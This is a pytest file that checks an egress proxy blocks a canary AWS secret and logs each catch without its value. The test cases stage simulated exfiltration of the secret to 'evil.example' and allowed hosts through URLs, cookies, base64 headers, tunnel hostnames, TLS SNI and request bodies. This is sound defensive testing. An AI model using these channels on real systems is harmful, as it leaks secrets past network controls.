"""A honeytoken doesn't get out through the proxy: it is refused, and told without its value."""

import asyncio
import base64
import ssl
from collections.abc import AsyncIterator
from contextlib import suppress
from dataclasses import replace
from typing import Any

import pytest
import pytest_asyncio

from entrance.session import RunId, Session, TaskId
from orchestrator.egress_policy import canaries_for
from tests.fakes.alarm import HONEY, canary
from tests.servers.asking import ask, connect, line, plain
from tests.servers.egress import ALLOWED, RULES, Egress, other, sandbox
from tests.waiting import until

pytestmark = pytest.mark.asyncio(loop_scope="module")
SESSION = Session(
    RunId("run-1"), TaskId("P/T"), "P", "bot", "10.7.0.2", "0" * 64, honeytokens=(RunId("run-1"),)
)
SECRET = canary("run-1")
PACKED = base64.b64encode(f"note: {SECRET}".encode()).decode()
TO_ALLOWED = connect(f"{ALLOWED}:443")


@pytest_asyncio.fixture(loop_scope="module")
async def trapped(world: Egress) -> AsyncIterator[Egress]:
    """The world, with the canaries of the sandbox in the policy."""
    await world.apply(replace(sandbox(*RULES), canaries=canaries_for(HONEY, SESSION)), other())
    yield world
    await world.apply(sandbox(*RULES), other())


async def assert_found(world: Egress, where: str) -> dict[str, Any]:
    """The one find, as it was told."""
    await until(lambda: any(one.get("rule") == "honeytoken" for one in world.log.decided))
    [told] = [one for one in world.log.decided if one.get("rule") == "honeytoken"]
    assert told["decision"] == "deny"
    assert (told["detail"]["honeytoken"], told["detail"]["where"]) == ("aws-secret", where)
    assert SECRET not in str(world.log.decided) + str(world.log.outcomes)
    return told


@pytest.mark.parametrize(
    ("request_", "where"),
    [
        (line("GET", f"/?q={SECRET}", host=ALLOWED), "the address of a request"),
        (line("GET", "/", f"X-Note: {PACKED}", host=ALLOWED), "the headers of a request"),
        (line("GET", "/", f"Cookie: a={SECRET}", host=ALLOWED), "the headers of a request"),
    ],
)
async def test_a_request_with_one_in_its_head_does_not_go_out(
    trapped: Egress, request_: bytes, where: str
) -> None:
    answer = await ask(trapped, TO_ALLOWED, request_, sni=ALLOWED)
    assert answer.status == 403
    assert SECRET.encode() not in answer.body
    await assert_found(trapped, where)
    assert not trapped.origin.hits


async def test_nor_to_a_host_that_is_not_allowed(trapped: Egress) -> None:
    """That it would have been refused anyway doesn't make it innocent."""
    answer = await ask(trapped, plain(f"http://evil.example/{SECRET}", host="evil.example"))
    told = await assert_found(trapped, "the address of a request")
    assert (answer.status, told["method"]) == (403, "GET")


async def test_nor_in_the_name_of_a_host_to_tunnel_to(trapped: Egress) -> None:
    await ask(trapped, connect(f"{SECRET}.evil.example:443"))
    told = await assert_found(trapped, "the address of a request")
    assert told["method"] == "CONNECT"


@pytest.mark.parametrize(
    "first",
    [
        pytest.param(line("GET", f"http://{ALLOWED}/{SECRET}", host=ALLOWED), id="a request"),
        pytest.param(line("CONNECT", f"{SECRET}.example:443"), id="a tunnel"),
    ],
)
async def test_nor_in_what_shows_no_token(trapped: Egress, first: bytes) -> None:
    """Whose it is, is known by the address."""
    await ask(trapped, first)
    told = await assert_found(trapped, "the address of a request")
    assert told["method"] == first.split(b" ")[0].decode()


@pytest.mark.parametrize("host", [ALLOWED, "pinned.example"])
async def test_nor_in_the_name_that_tls_is_asked_for(trapped: Egress, host: str) -> None:
    context = ssl.create_default_context(cafile=trapped.authority)

    def hello() -> None:
        with trapped.socket() as sock:
            sock.sendall(connect(f"{host}:443"))
            assert b" 200 " in sock.recv(1000)
            with suppress(OSError):
                context.wrap_socket(sock, server_hostname=f"{SECRET}.example").close()

    await asyncio.to_thread(hello)
    await assert_found(trapped, "the SNI of a tunnel")


async def test_nor_in_what_is_no_request(trapped: Egress) -> None:
    await ask(trapped, plain(f"http://{ALLOWED}:99999/{SECRET}"))
    await assert_found(trapped, "what is no request")


@pytest.mark.parametrize("size", [0, 3 << 20])
async def test_a_body_with_one_in_it_does_not_arrive(trapped: Egress, size: int) -> None:
    body = b"x" * size + SECRET.encode() + b"y" * size
    head = line("POST", "/post/x", f"Content-Length: {len(body)}", host=ALLOWED)
    await ask(trapped, TO_ALLOWED, head + body, sni=ALLOWED)
    await assert_found(trapped, "the body of a request")
    await trapped.settled()
    assert trapped.log.outcomes[-1]["result"] == "cut"
    assert SECRET.encode() not in b"".join(one.body for one in trapped.origin.hits)


async def test_other_requests_go_through(trapped: Egress) -> None:
    body = b"an ordinary body"
    head = line("POST", "/post/x", f"Content-Length: {len(body)}", host=ALLOWED)
    assert (await ask(trapped, TO_ALLOWED, head + body, sni=ALLOWED)).status == 200
    assert not [one for one in trapped.log.decided if one.get("rule") == "honeytoken"]
